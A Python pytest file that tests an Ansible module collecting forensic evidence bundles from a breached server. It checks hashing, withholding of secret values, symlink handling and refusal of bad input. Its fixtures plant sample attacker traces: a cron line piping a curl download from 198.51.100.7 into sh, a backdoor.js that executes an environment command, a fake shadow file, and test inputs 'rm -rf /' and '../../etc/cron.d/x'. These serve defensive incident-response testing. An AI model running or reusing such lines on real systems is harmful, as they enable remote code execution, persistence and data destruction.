"""tokotani.dr.evidence_bundle on a real tree, through ansible: the bundle holds each trace with valid hashes
(checked with sha256sum -c, as an investigator would), who/when/where, what changed since the breach, the .env's
keys with hashed values and never a value; a link planted to a secret file is not read through, evidence is never
overwritten, and check mode writes nothing."""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import tarfile
import time

import pytest
from backup_support import run_module

BREACH_AT = time.time() - 3600
SECRET = "N3xtAuth-secret-the-intruder-read-0123456789"


@pytest.fixture
def server(tmp_path):
    """A server's traces: an app tree with files from before and after the breach, logs, keys, a cron entry."""
    root = tmp_path / "server"
    app = root / "srv" / "tokotani" / "current"
    (app / "pages").mkdir(parents=True)
    (app / "node_modules" / "dep").mkdir(parents=True)
    old, new = app / "pages" / "index.js", app / "pages" / "backdoor.js"
    old.write_text("export default () => 'shop';\n")
    new.write_text("require('child_process').exec(process.env.CMD);\n")
    (app / "node_modules" / "dep" / "index.js").write_text("module.exports = 1;\n")
    for path in (old, app / "node_modules" / "dep" / "index.js"):
        os.utime(path, (BREACH_AT - 86400, BREACH_AT - 86400))
    (app / ".env").write_text(f"NODE_ENV=production\nNEXTAUTH_SECRET={SECRET}\nADMIN_TOKEN=admin-0123456789abcdef\n")
    logs = root / "var" / "log"
    logs.mkdir(parents=True)
    (logs / "auth.log").write_text("Dec  7 03:12:01 srv sshd[99]: Accepted publickey for root from 198.51.100.7\n")
    (logs / "big.log").write_bytes(b"x" * 5000)
    cron = root / "var" / "spool" / "cron" / "crontabs"
    cron.mkdir(parents=True)
    (cron / "root").write_text("* * * * * curl -s http://198.51.100.7/x | sh\n")
    shadow = tmp_path / "shadow"
    shadow.write_text("root:$6$secret-hash:19000:0:99999:7:::\n")
    (root / "var" / "log" / "planted").symlink_to(shadow)
    return root


def options(server, dest, **extra):
    return {
        "dest": str(dest),
        "name": "evidence-test-1",
        "since": BREACH_AT,
        "operator": "on-call",
        "reason": "drill",
        "max_file_bytes": 1000,
        "files": [
            str(server / "var" / "log"),
            str(server / "var" / "spool" / "cron" / "crontabs" / "root"),
            str(server / "srv" / "tokotani" / "current" / ".env"),
            str(server / "no" / "such" / "file"),
        ],
        "changed_since": [str(server / "srv" / "tokotani" / "current")],
        "env_files": [str(server / "srv" / "tokotani" / "current" / ".env")],
        "commands": [
            {"name": "id", "argv": ["id", "-u"]},
            {"name": "failing", "argv": ["sh", "-c", "echo out; echo err >&2; exit 3"]},
            {"name": "absent", "argv": ["no-such-tool-here"]},
        ],
        **extra,
    }


def unpack(path, into):
    with tarfile.open(path) as tar:
        tar.extractall(into, filter="data")
    return into / "evidence-test-1"


def test_the_bundle_holds_every_trace_with_hashes_that_check(server, tmp_path):
    dest = tmp_path / "evidence"
    result = run_module("evidence_bundle", options(server, dest))
    assert result["changed"] and not result.get("failed"), result
    bundle = dest / "evidence-test-1.tar.gz"
    assert result["path"] == str(bundle) and stat.S_IMODE(bundle.stat().st_mode) == 0o600
    assert result["sha256"] == hashlib.sha256(bundle.read_bytes()).hexdigest()
    unpacked = unpack(bundle, tmp_path / "unpacked")
    check = subprocess.run(
        ["sha256sum", "-c", "MANIFEST.sha256"], cwd=unpacked, capture_output=True, text=True, check=False
    )
    assert check.returncode == 0, check.stdout + check.stderr
    manifest = json.loads((unpacked / "MANIFEST.json").read_text())
    assert manifest["collected_by"] == "on-call" and manifest["reason"] == "drill" and manifest["host"]
    assert result["manifest_sha256"] == hashlib.sha256((unpacked / "MANIFEST.json").read_bytes()).hexdigest()
    files = unpacked / "files" / str(server).lstrip("/")
    assert "198.51.100.7" in (files / "var" / "log" / "auth.log").read_text()
    assert "curl -s http://198.51.100.7/x | sh" in (files / "var" / "spool" / "cron" / "crontabs" / "root").read_text()
    big = next(m for m in manifest["members"] if m["member"].endswith("big.log"))
    assert big["truncated"] and big["file_size"] == 5000 and big["size"] == 1000
    assert result["missing"] == [str(server / "no" / "such" / "file")]


def test_a_link_planted_to_a_secret_file_is_recorded_not_read_through(server, tmp_path):
    result = run_module("evidence_bundle", options(server, tmp_path / "evidence"))
    data = unpack(result["path"], tmp_path / "unpacked")
    link = next(data.rglob("planted.symlink"))
    assert link.read_text().strip() == str(tmp_path / "shadow")
    raw = subprocess.run(["zcat", result["path"]], capture_output=True, check=True).stdout
    assert b"secret-hash" not in raw


def test_the_env_is_withheld_and_only_its_keys_with_hashed_values_kept(server, tmp_path):
    result = run_module("evidence_bundle", options(server, tmp_path / "evidence"))
    env = str(server / "srv" / "tokotani" / "current" / ".env")
    assert result["withheld"] == [env]
    data = unpack(result["path"], tmp_path / "unpacked")
    keys = json.loads((data / "env_keys.json").read_text())[env]
    assert sorted(keys) == ["ADMIN_TOKEN", "NEXTAUTH_SECRET", "NODE_ENV"]
    assert keys["NEXTAUTH_SECRET"] == hashlib.sha256(SECRET.encode()).hexdigest()
    raw = subprocess.run(["zcat", result["path"]], capture_output=True, check=True).stdout
    assert SECRET.encode() not in raw and b"admin-0123456789abcdef" not in raw


def test_what_changed_since_the_breach_is_listed_with_its_hash(server, tmp_path):
    result = run_module("evidence_bundle", options(server, tmp_path / "evidence"))
    data = unpack(result["path"], tmp_path / "unpacked")
    changed = json.loads((data / "changed_files.json").read_text())
    paths = {os.path.relpath(e["path"], server) for e in changed["entries"]}
    assert "srv/tokotani/current/pages/backdoor.js" in paths and not any("node_modules" in p for p in paths)
    by_name = {os.path.basename(e["path"]): e for e in changed["entries"]}
    # a modification time set back before the breach does not hide a file: its ctime says when it changed
    assert by_name["index.js"]["changed"] == ["ctime"] and by_name["backdoor.js"]["changed"] == ["mtime", "ctime"]
    backdoor = by_name["backdoor.js"]
    expected = hashlib.sha256((server / "srv/tokotani/current/pages/backdoor.js").read_bytes()).hexdigest()
    assert backdoor["sha256"] == expected
    assert result["changed_files"] == len(changed["entries"])


def test_commands_are_recorded_with_their_exit_code_and_a_missing_tool_said(server, tmp_path):
    result = run_module("evidence_bundle", options(server, tmp_path / "evidence"))
    data = unpack(result["path"], tmp_path / "unpacked")
    failing = (data / "commands" / "failing.txt").read_text()
    assert "# rc=3 " in failing and "out\n" in failing and "# stderr:\nerr" in failing
    assert (data / "commands" / "id.txt").read_text().splitlines()[-1] == str(os.geteuid())
    assert "command absent: no-such-tool-here is not installed" in result["errors"]


def test_evidence_is_never_overwritten(server, tmp_path):
    dest = tmp_path / "evidence"
    first = run_module("evidence_bundle", options(server, dest))
    before = (dest / "evidence-test-1.tar.gz").read_bytes()
    second = run_module("evidence_bundle", options(server, dest))
    assert second.get("failed") and not second["changed"]
    assert second["msg"] == f"{first['path']} exists: evidence is never overwritten, give another name"
    assert (dest / "evidence-test-1.tar.gz").read_bytes() == before


def test_check_mode_writes_nothing(server, tmp_path):
    dest = tmp_path / "evidence"
    result = run_module("evidence_bundle", options(server, dest), check=True)
    assert not result.get("failed") and result["sha256"] is None, result
    assert result["msg"].startswith(f"would write {dest / 'evidence-test-1.tar.gz'} with ")
    assert not (dest / "evidence-test-1.tar.gz").exists()


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"name": "../../etc/cron.d/x"}, "name must be 1 to 100 letters, digits"),
        (
            {"commands": [{"name": "x", "argv": "rm -rf /"}]},
            "command x: argv must be a non-empty list of strings (no shell)",
        ),
        ({"commands": [{"name": "../x", "argv": ["id"]}]}, "each command needs a name"),
        ({"max_file_bytes": 0}, "max_file_bytes must be more than 0"),
    ],
)
def test_a_bad_input_is_refused_and_nothing_written(server, tmp_path, extra, message):
    dest = tmp_path / "evidence"
    result = run_module("evidence_bundle", options(server, dest, **extra))
    assert result.get("failed") and message in result["msg"], result
    assert not dest.exists()
